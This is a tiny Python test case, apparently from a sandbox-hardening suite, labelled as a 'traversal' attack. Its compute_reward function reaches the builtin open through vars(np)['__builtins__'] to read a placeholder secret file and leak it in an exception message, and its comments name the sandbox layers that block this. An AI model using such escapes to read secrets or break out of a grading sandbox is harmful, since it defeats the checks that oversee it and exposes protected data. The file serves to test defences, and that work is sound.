# attack: vars() of a module
# group: traversal
# wall: language; alone: seccomp (no open)

def compute_reward(x):
    raise ValueError(vars(np)["__builtins__"]["open"]("@SECRET@").read())
